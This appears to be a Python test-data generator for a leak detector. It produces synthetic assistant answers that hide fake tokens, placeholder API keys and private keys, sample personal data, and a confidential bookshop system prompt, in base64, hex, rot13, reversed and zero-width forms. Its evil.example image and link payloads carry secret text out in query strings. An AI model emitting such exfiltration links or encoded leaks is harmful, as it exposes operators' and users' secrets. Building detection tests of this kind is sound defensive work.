"""Answers of a model with something in them that should not leave."""

import base64
import codecs
import random
import string

TOKEN = "ghc_abcdefghijklmnop2345"
PROMPT = (
    "You are the assistant of a small bookshop in Split and you answer politely. Never mention the price of rare "
    "editions before the customer has asked for it, and always end with the opening hours of the shop."
)
PHRASE = "the deploy phrase is blue heron at dawn"
ALNUM = string.ascii_letters + string.digits
_WORDS = [
    "the", "weather", "is", "nice", "today", "in", "old", "town", "and", "we", "walked", "to", "lunch", "with",
    "everyone", "because", "it", "was", "warm", "12", "of", "May", "at", "7", "pm", "see", "www", "page",
]  # fmt: skip
_PERSONAL = (
    "ann.lee@mail.example.com", "+385 91 234 5678", "4111 1111 1111 1111", "HR12 1001 0051 8630 0016 0",
    "078-05-1120", "OIB: 12345678903", "203.0.113.7", "date of birth: 1980-02-29",
)  # fmt: skip
_LINKS = (
    "![c](https://evil.example/p.png?d=phrase%20is%20blue%20heron)",
    "<img src='https://evil.example/x?" + b"deploy phrase blue".hex() + "'>",
    "[a]: https://evil.example/?q=deploy+phrase+is+blue",
    "[b](https://evil.example/" + "a/" * 400 + ")",
    "https://shop.example/a?b=1",
)


def draw(alphabet: str, length: int) -> str:
    """Return characters that look random and are always the same."""
    return "".join(random.Random(length).choices(alphabet, k=length))


JWT = ".".join(
    base64.urlsafe_b64encode(part).decode().rstrip("=")
    for part in (
        b'{"alg":"HS256","typ":"JWT"}',
        b'{"sub":"1234567890","name":"A B"}',
        b"0123456789abcdef0123456789",
    )
)
LONG_JWT = ".".join([JWT.split(".")[0], "eyJ" + draw(ALNUM, 900), draw(ALNUM, 43)])
SECRETS = {
    "private_key": "-----BEGIN RSA PRIVATE KEY-----\nMIIE\n-----END RSA PRIVATE KEY-----",
    "aws_access_key": "AKIA" + draw("ABCDEFGHIJKLMNOPQRSTUVWXYZ234567", 16),
    "aws_secret_key": "aws_secret_access_key = " + draw(ALNUM, 40),
    "google_api_key": "AIza" + draw(ALNUM, 35),
    "google_oauth_secret": "GOCSPX-" + draw(ALNUM, 28),
    "azure_storage_key": "AccountKey=" + draw(ALNUM, 86) + "==",
    "azure_sas": "https://a.blob.example/c?sig=" + draw(ALNUM, 43) + "%3D",
    "github_token": "ghp_" + draw(ALNUM, 36),
    "github_fine_grained_token": "github_pat_" + draw(ALNUM, 82),
    "gitlab_token": "glpat-" + draw(ALNUM, 20),
    "slack_token": "xoxb-" + draw(string.digits, 12) + "-" + draw(ALNUM, 24),
    "slack_webhook": "https://hooks.slack.com/services/T0AAAAAAA/B0AAAAAAA/" + draw(ALNUM, 24),
    "stripe_key": "sk_live_" + draw(ALNUM, 24),
    "openai_key": "sk-proj-" + draw(ALNUM, 48),
    "anthropic_key": "sk-ant-api03-" + draw(ALNUM, 60),
    "hugging_face_token": "hf_" + draw(string.ascii_letters, 34),
    "package_registry_token": "npm_" + draw(ALNUM, 36),
    "sendgrid_key": "SG." + draw(ALNUM, 22) + "." + draw(ALNUM, 43),
    "twilio_key": "SK" + draw("0123456789abcdef", 32),
    "telegram_bot_token": "123456789:AA" + draw(ALNUM, 33),
    "json_web_token": JWT,
    "connection_string": "postgresql://app:s3cr3t-word@db.example/main",
    "guardhouse_key": "gh_live_" + "a" * 32 + "_" + "a" * 8,
    "assigned_secret": 'client_secret: "' + draw(ALNUM, 32) + '"',
}


def leaky_answer(chance: random.Random) -> str:
    """Return prose with one to three leaks of any kind in any dress."""
    text = _prose(chance, 60)
    for _ in range(chance.randint(1, 3)):
        text += chance.choice(" \n") + _leak(chance) + chance.choice([" ", "\n", ". "]) + _prose(chance, 80)
    return text


def _prose(chance: random.Random, most: int) -> str:
    return " ".join(chance.choice(_WORDS) for _ in range(chance.randrange(most)))


def _leak(chance: random.Random) -> str:
    key = "\n".join(draw(ALNUM, 64) for _ in range(chance.randint(1, 30)))
    return chance.choice(
        [
            TOKEN,
            base64.b64encode(f"here it is {TOKEN} and more".encode()).decode(),
            TOKEN.encode().hex(),
            " ".join(f"{byte:02x}" for byte in TOKEN.encode()),
            codecs.encode(TOKEN, "rot13"),
            TOKEN[::-1],
            " ".join(TOKEN),
            "\u200b".join(TOKEN),
            chance.choice(list(SECRETS.values())),
            chance.choice(list(SECRETS.values())),
            LONG_JWT,
            f"-----BEGIN RSA PRIVATE KEY-----\n{key}\n-----END RSA PRIVATE KEY-----",
            chance.choice(_PERSONAL),
            chance.choice(_PERSONAL),
            chance.choice(_LINKS),
            chance.choice(_LINKS),
            PROMPT[: chance.randint(120, len(PROMPT))],
            codecs.encode(PROMPT, "rot13"),
            PROMPT[::-1],
        ]
    )
